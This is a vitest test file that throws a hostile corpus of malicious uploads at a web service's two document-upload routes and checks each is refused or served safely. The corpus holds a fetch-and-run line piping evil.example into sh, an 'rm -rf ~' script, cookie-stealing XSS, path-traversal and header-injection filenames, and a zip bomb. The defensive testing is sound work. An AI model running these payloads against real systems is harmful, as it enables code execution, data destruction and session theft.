import { hasForbiddenCharacters } from '@shortlist/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type FilePart,
  multipartForm,
  type OrdersTestApp,
  type TestUser,
} from '../testing/orders-test-kit';
import { DOCUMENT_MIME_TYPES, MAX_DOCUMENT_BYTES } from './document-sniffer';
import {
  elfExecutable,
  minimalDoc,
  minimalDocx,
  minimalPdf,
  windowsExecutable,
  zipArchive,
} from './testing/document-fixtures';
import { openDescriptorCount, rawHttp, waitUntil } from './testing/raw-http';
import { startUploadWorld } from './testing/upload-world';

// The uploads battery (no upload may stop the service or leave a file behind): a hostile corpus
// sent over real sockets to both upload routes (a customer's service order, an admin's delivery
// attachment). Every answer is a 4xx with nothing kept, or the file is stored and served safely:
// only as an attachment, nosniff, with a PDF/DOC/DOCX type, a clean name and the exact bytes sent.
// No answer is a 5xx, and no descriptor stays open afterwards.

let t: OrdersTestApp;
let alice: TestUser;
let admin: TestUser;
let port: number;
let paidOrderId: string;

beforeAll(async () => {
  ({ t, alice, admin, paidOrderId, port } = await startUploadWorld());
});

afterAll(async () => {
  await t?.close();
});

/** What a case must come to: stored (safely), refused with a status, or either. */
type Expectation = 'stored' | { status: number } | 'refused-or-safe';

interface HostileCase {
  name: string;
  file: FilePart;
  expect: Expectation;
}

const pdfHead = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');

/** A PDF of exactly `size` bytes (the minimal PDF padded with spaces, as readers allow). */
function pdfOfSize(size: number): Buffer {
  const file = Buffer.alloc(size, 0x20);
  minimalPdf().copy(file);
  return file;
}

/** A DOCX whose word/document.xml inflates to `inflated` bytes of one repeated character. */
function zipBombDocx(inflated: number): Buffer {
  return zipArchive([
    { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types/>' },
    { name: 'word/document.xml', data: `<w:document>${'A'.repeat(inflated)}</w:document>` },
  ]);
}

function corpus(): HostileCase[] {
  const docx = minimalDocx();
  const pdf = minimalPdf();
  const zipPayload = zipArchive([{ name: 'run.sh', data: '#!/bin/sh\nrm -rf ~\n' }]);
  return [
    // Polyglots: a PDF header glued to something else. By content they are PDFs, so they may be
    // kept, but only ever served as a PDF attachment that no browser renders on our origin.
    {
      name: 'pdf+zip polyglot',
      file: { filename: 'cv.pdf', content: Buffer.concat([pdfHead, zipPayload]) },
      expect: 'refused-or-safe',
    },
    {
      name: 'pdf+html polyglot',
      file: {
        filename: 'cv.html',
        content: Buffer.concat([
          pdfHead,
          Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>'),
        ]),
      },
      expect: 'refused-or-safe',
    },
    {
      name: 'pdf+script polyglot',
      file: {
        filename: 'cv.pdf.sh',
        content: Buffer.concat([pdfHead, Buffer.from('\n#!/bin/sh\ncurl evil.example | sh\n')]),
      },
      expect: 'refused-or-safe',
    },
    {
      name: 'html with a PDF inside',
      file: {
        filename: 'cv.pdf',
        content: Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdf]),
        contentType: 'application/pdf',
      },
      expect: { status: 415 },
    },
    {
      name: 'svg with script',
      file: {
        filename: 'cv.pdf',
        content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        contentType: 'application/pdf',
      },
      expect: { status: 415 },
    },
    {
      name: 'zip that is not a DOCX',
      file: { filename: 'cv.docx', content: zipPayload },
      expect: { status: 415 },
    },
    {
      name: 'ELF executable named .pdf',
      file: { filename: 'cv.pdf', content: elfExecutable() },
      expect: { status: 415 },
    },
    {
      name: 'PE executable named .docx',
      file: { filename: 'cv.docx', content: windowsExecutable() },
      expect: { status: 415 },
    },
    // A zip bomb disguised as a DOCX: 100 MB of document.xml in about 100 KB. It is
    // never inflated here (only its headers are read), so it costs what it weighs.
    {
      name: 'zip bomb as DOCX',
      file: { filename: 'cv.docx', content: zipBombDocx(100 * 1024 * 1024) },
      expect: 'refused-or-safe',
    },
    // Truncated documents.
    {
      name: 'truncated PDF',
      file: { filename: 'cv.pdf', content: pdf.subarray(0, 24) },
      expect: 'refused-or-safe',
    },
    {
      name: 'PDF magic only',
      file: { filename: 'cv.pdf', content: Buffer.from('%PDF') },
      expect: 'refused-or-safe',
    },
    {
      name: 'truncated DOCX (first 40 bytes)',
      file: { filename: 'cv.docx', content: docx.subarray(0, 40) },
      expect: { status: 415 },
    },
    {
      name: 'truncated DOCX (half)',
      file: { filename: 'cv.docx', content: docx.subarray(0, Math.floor(docx.length / 2)) },
      expect: 'refused-or-safe',
    },
    {
      name: 'truncated DOC',
      file: { filename: 'cv.doc', content: minimalDoc().subarray(0, 8) },
      expect: { status: 415 },
    },
    {
      name: 'empty file',
      file: { filename: 'cv.pdf', content: Buffer.alloc(0) },
      expect: { status: 415 },
    },
    // Names.
    {
      name: 'traversal name',
      file: { filename: '../../../../etc/cron.d/evil.pdf', content: pdf },
      expect: 'stored',
    },
    {
      name: 'windows traversal name',
      file: { filename: '..\\..\\Windows\\System32\\evil.pdf', content: pdf },
      expect: 'stored',
    },
    {
      name: 'bidi override name',
      file: { filename: 'invoice\u202Efdp.exe.pdf', content: pdf },
      expect: 'stored',
    },
    {
      name: 'bidi isolate name',
      file: { filename: '\u2066cv\u2069\u200E.docx', content: docx },
      expect: 'stored',
    },
    {
      name: 'header-injection name',
      file: { filename: "cv.pdf\"; x=1; filename*=UTF-8''evil.html", content: pdf },
      expect: 'stored',
    },
    {
      name: 'over-long name',
      file: { filename: `${'é'.repeat(1000)}.pdf`, content: pdf },
      expect: 'stored',
    },
    // Sizes around the 10 MB cap.
    {
      name: '10 MB - 1 byte',
      file: { filename: 'big.pdf', content: pdfOfSize(MAX_DOCUMENT_BYTES - 1) },
      expect: 'stored',
    },
    {
      name: 'exactly 10 MB',
      file: { filename: 'big.pdf', content: pdfOfSize(MAX_DOCUMENT_BYTES) },
      expect: 'stored',
    },
    {
      name: '10 MB + 1 byte',
      file: { filename: 'big.pdf', content: pdfOfSize(MAX_DOCUMENT_BYTES + 1) },
      expect: { status: 413 },
    },
  ];
}

interface Route {
  name: string;
  /** Posts the file; answers the status and, when stored, where the customer downloads it. */
  upload(file: FilePart): Promise<{ status: number; stored: { name: string; url: string } | null }>;
  accepted: number;
}

const routes: Route[] = [
  {
    name: 'POST /api/orders/service',
    accepted: 201,
    async upload(file) {
      const form = multipartForm([
        ['service', 'resume_review'],
        ['description', ''],
        ['file', file],
        ['currency', 'inr'],
      ]);
      const answer = await rawHttp({
        port,
        method: 'POST',
        path: '/api/orders/service',
        headers: { ...alice.auth, ...form.headers },
        body: form.payload,
      });
      const status = answer.status ?? 0;
      if (status !== 201) return { status, stored: null };
      const { orderId } = JSON.parse(answer.body) as { orderId: string };
      const order = await t.app.inject({
        method: 'GET',
        url: `/api/orders/${orderId}`,
        headers: alice.auth,
      });
      const [upload] = (
        order.json() as { order: { customerUploads: { name: string; url: string }[] } }
      ).order.customerUploads;
      return { status, stored: upload ?? null };
    },
  },
  {
    name: 'POST /api/admin/orders/:id/attachments',
    accepted: 200,
    async upload(file) {
      const form = multipartForm([['file', file]]);
      const answer = await rawHttp({
        port,
        method: 'POST',
        path: `/api/admin/orders/${paidOrderId}/attachments`,
        headers: { ...admin.auth, ...form.headers },
        body: form.payload,
      });
      const status = answer.status ?? 0;
      if (status !== 200) return { status, stored: null };
      const { order } = JSON.parse(answer.body) as {
        order: { attachments: { name: string; url: string }[] };
      };
      return { status, stored: order.attachments.at(-1) ?? null };
    },
  },
];

describe('hostile upload corpus', () => {
  it('answers every case with a 4xx or stores it safely, and leaves no descriptor open', async () => {
    // Warm up the pool and lazily opened files, so the baseline holds them.
    for (const route of routes) {
      const warm = await route.upload({ filename: 'warm.pdf', content: minimalPdf() });
      expect(warm.status).toBe(route.accepted);
    }
    const descriptorsBefore = openDescriptorCount();
    const byStatus = new Map<number, number>();
    let cases = 0;

    // Built once: deflating the zip bomb takes a few seconds.
    const hostileCorpus = corpus();
    for (const route of routes) {
      for (const hostile of hostileCorpus) {
        cases += 1;
        const label = `${route.name} · ${hostile.name}`;
        const storedBefore = await t.storedFiles();
        const { status, stored } = await route.upload(hostile.file);
        byStatus.set(status, (byStatus.get(status) ?? 0) + 1);

        expect(status, label).not.toBe(0);
        expect(status < 500, `${label}: ${status}`).toBe(true);
        if (hostile.expect === 'stored') expect(status, label).toBe(route.accepted);
        else if (hostile.expect !== 'refused-or-safe') {
          expect(status, label).toBe(hostile.expect.status);
        }
        if (status >= 400) {
          expect(await t.storedFiles(), `${label}: nothing kept`).toEqual(storedBefore);
          continue;
        }
        expect(status, label).toBe(route.accepted);
        expect(stored, label).not.toBeNull();
        await expectServedSafely(label, stored ?? { name: '', url: '' }, hostile.file.content);
      }
    }

    await waitUntil(() => openDescriptorCount() <= descriptorsBefore, {
      what: 'every descriptor the uploads opened is closed again',
    });
    const descriptorsAfter = openDescriptorCount();
    const answers = [...byStatus.entries()]
      .sort(([a], [b]) => a - b)
      .map(([status, count]) => `${status}: ${count}`)
      .join(', ');
    console.log(
      `hostile uploads: ${cases} cases (${routes.length} routes x ${cases / routes.length}); ` +
        `answers by status ${answers}; 5xx: 0; descriptors before ${descriptorsBefore}, after ${descriptorsAfter}`,
    );
    expect([...byStatus.keys()].every((status) => status < 500)).toBe(true);
  }, 60_000);
});

async function expectServedSafely(
  label: string,
  stored: { name: string; url: string },
  content: Buffer,
): Promise<void> {
  // The name: no control or bidi character, no path, one of the three extensions.
  expect(hasForbiddenCharacters(stored.name, { multiline: false }), label).toBe(false);
  expect(stored.name, label).not.toMatch(/[\\/\u200e\u200f]|^\./);
  expect(stored.name, label).toMatch(/\.(pdf|doc|docx)$/);
  expect(Array.from(stored.name).length, label).toBeLessThanOrEqual(120);

  const download = await t.app.inject({ method: 'GET', url: stored.url, headers: alice.auth });
  expect(download.statusCode, label).toBe(200);
  const disposition = String(download.headers['content-disposition']);
  expect(disposition, label).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''/);
  // One filename and one filename*: nothing a hostile name could add to the header.
  expect(disposition.split(';'), label).toHaveLength(3);
  expect(download.headers['x-content-type-options'], label).toBe('nosniff');
  expect(Object.values(DOCUMENT_MIME_TYPES), label).toContain(download.headers['content-type']);
  expect(download.rawPayload.equals(content), `${label}: the exact bytes`).toBe(true);
}
